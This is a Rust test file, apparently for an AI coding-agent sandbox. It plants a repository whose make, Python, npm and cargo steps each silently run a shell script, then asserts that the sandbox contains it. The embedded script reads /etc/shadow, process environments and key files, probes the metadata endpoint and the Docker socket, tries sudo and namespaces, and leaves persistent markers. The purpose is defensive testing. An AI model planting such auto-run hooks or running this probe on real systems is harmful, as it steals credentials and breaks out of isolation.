//! Build, test and lint steps that are hostile code: whatever they are started by, they run behind the walls.

use assentry::demo::github::NewRepository;

use super::*;
use crate::world::REPO;

/// What starts code of the repository, by the name that the code is told.
const STEPS: [(&str, &str); 6] = [
    ("make", "make"),
    ("python", "python3 -m unittest discover -s suite"),
    ("site", "PYTHONPATH=suite python3 -c pass"),
    ("npm", "npm install --offline --no-audit --no-fund"),
    ("npm-test", "npm test"),
    ("cargo", "cargo build --offline"),
];

/// A repository in which every usual step starts the escape.
fn trap(bait: &Bait) -> NewRepository {
    let mut repository = story::repository();
    let mut file = |path: &str, text: &str| repository.files.push((path.to_owned(), text.as_bytes().to_vec(), false));
    file("escape.sh", &escape(bait));
    file(".gitignore", "findings\ntarget/\nCargo.lock\nnode_modules/\npackage-lock.json\n__pycache__/\n");
    file("Makefile", "X := $(shell sh escape.sh make)\nall:\n\t@sh escape.sh make\n");
    let python = |name: &str| format!("import subprocess\nsubprocess.call(['sh', 'escape.sh', '{name}'])\n");
    file("suite/test_it.py", &python("python"));
    file("suite/conftest.py", &python("python"));
    file("suite/sitecustomize.py", &python("site"));
    let scripts =
        json!({"preinstall": "sh escape.sh npm", "postinstall": "sh escape.sh npm", "test": "sh escape.sh npm-test"});
    file("package.json", &json!({"name": "x", "version": "1.0.0", "private": true, "scripts": scripts}).to_string());
    file(".npmrc", "registry=http://evil.test/\nscript-shell=/bin/sh\n");
    file("Cargo.toml", "[package]\nname = \"x\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n");
    file("src/lib.rs", "");
    let process = "std::process::Command::new(\"sh\").args([\"escape.sh\", \"cargo\"]).status().unwrap();";
    file("build.rs", &format!("fn main() {{ {process} }}\n"));
    file(".cargo/config.toml", "[build]\nrustflags = [\"-Cdebuginfo=0\"]\n\n[net]\noffline = true\n");
    repository
}

/// Reads, reaches and leaves behind what it can, and writes down what it has found.
fn escape(bait: &Bait) -> String {
    let (tcp, udp) = (bait.tcp.local_addr().unwrap().port(), bait.udp.local_addr().unwrap().port());
    let (file, socket, hidden, mark) = (bait.file(), bait.socket(), bait.abstract_name(), &bait.mark);
    format!(
        r#"exec 2>/dev/null
cd "$(dirname "$0")"
exec >>findings
for at in {file} /proc/1/root{file} ../../../key.pem ../../../secret ../../../model-key /etc/shadow /proc/1/environ; do
    [ "$at" = /proc/1/environ ] || {{ cat "$at" && echo "OUT read $at"; }}
    {{ echo x > "$at"; }} && echo "OUT wrote $at"
done
cat /proc/[0-9]*/environ | tr '\0' '\n' | grep SECRET && echo OUT environment
perl -MSocket -e '
    for my $to (["127.0.0.1", {tcp}], ["1.1.1.1", 443], ["169.254.169.254", 80]) {{
        my $at = pack_sockaddr_in($to->[1], inet_aton($to->[0]));
        socket(my $s, PF_INET, SOCK_STREAM, 0) and connect($s, $at) and print "OUT tcp $to->[0]\n";
    }}
    for my $to (["127.0.0.1", {udp}], ["8.8.8.8", 53], ["8.8.8.8", 853]) {{
        my $at = pack_sockaddr_in($to->[1], inet_aton($to->[0]));
        socket(my $s, PF_INET, SOCK_DGRAM, 0) and send($s, "x", 0, $at) and print "OUT udp $to->[0]\n";
    }}
    for my $to ("{socket}", "\0{hidden}", "/var/run/docker.sock") {{
        socket(my $s, PF_UNIX, SOCK_STREAM, 0) and connect($s, pack_sockaddr_un($to)) and print "OUT unix $to\n";
    }}'
getent hosts example.com && echo OUT name
unshare -Urn true && echo OUT namespaces
sudo -n true && echo OUT sudo
touch /tmp/{mark} "$HOME/{mark}" /dev/shm/{mark} /var/tmp/{mark}
(setsid sh -c 'exec -a {mark} sleep 1000 || sleep 1000 # {mark}' &)
echo "RAN $1"
"#
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn t51_whatever_build_test_or_lint_step_runs_hostile_code_nothing_comes_of_it() {
    let bait = Bait::lay("build");
    let command = |(name, command): &(&str, &str)| {
        let program = command.split(' ').find(|word| !word.contains('=')).unwrap_or_default();
        format!(
            "rm -f findings; command -v {program} >/dev/null || echo \"ABSENT {name}\"; {command} >/dev/null 2>&1; \
             cat findings 2>/dev/null; true"
        )
    };
    let commands: Vec<String> = STEPS.iter().map(command).collect();
    let checks: Vec<Value> = std::iter::once(story::CHECK)
        .chain(commands.iter().map(String::as_str))
        .map(|it| json!({"command": it}))
        .collect();
    let mut hostile = Hostile::runs("build", &commands.iter().map(String::as_str).collect::<Vec<_>>());
    hostile.checks = json!(checks);
    let hostile = Arc::new(hostile);
    let script = {
        let hostile = Arc::clone(&hostile);
        move |seen: &Seen| match seen.offers("tick") {
            false => Reply::call("submit_plan", &json!({ "plan": hostile.plan() })),
            true => hostile.turns.get(seen.turns).cloned().unwrap_or_else(|| Reply::say("The script is over.")),
        }
    };
    let world = Box::pin(World::with(Arc::new(script), trap(&bait), "")).await;
    bait.guards(&world);
    let main = world.github.tree(REPO, "main");
    let issue = world.planned().await;
    world.person("bob").approves(world.plan_pull(issue).await).unwrap();
    world.settle().await;

    assert_eq!(world.phase(issue).await, "in_review", "{:#?}", world.said(issue));
    let heard: Vec<String> = world.model.requests().into_iter().map(|request| request.body).collect();
    for (name, _) in STEPS {
        let says = |what: &str| heard.iter().any(|text| text.contains(&format!("\\n{what} {name}\\n")));
        assert!(says("RAN") || says("ABSENT"), "{name} started nothing: {:?}", heard.last());
    }
    assert!(heard.iter().any(|text| text.contains("\\nRAN make\\n")), "make is there: {:?}", heard.last());
    assert!(heard.iter().all(|text| !text.contains("\\nOUT ")), "{:?}", heard.last());
    let pulls = world.work_pulls();
    assert_eq!(world.github.changed_files(REPO, pulls[0].number), ["bin/slug"], "nothing of it is taken along");
    assert_eq!(world.github.tree(REPO, "main"), main);
    bait.is_untouched(&world).await;
}
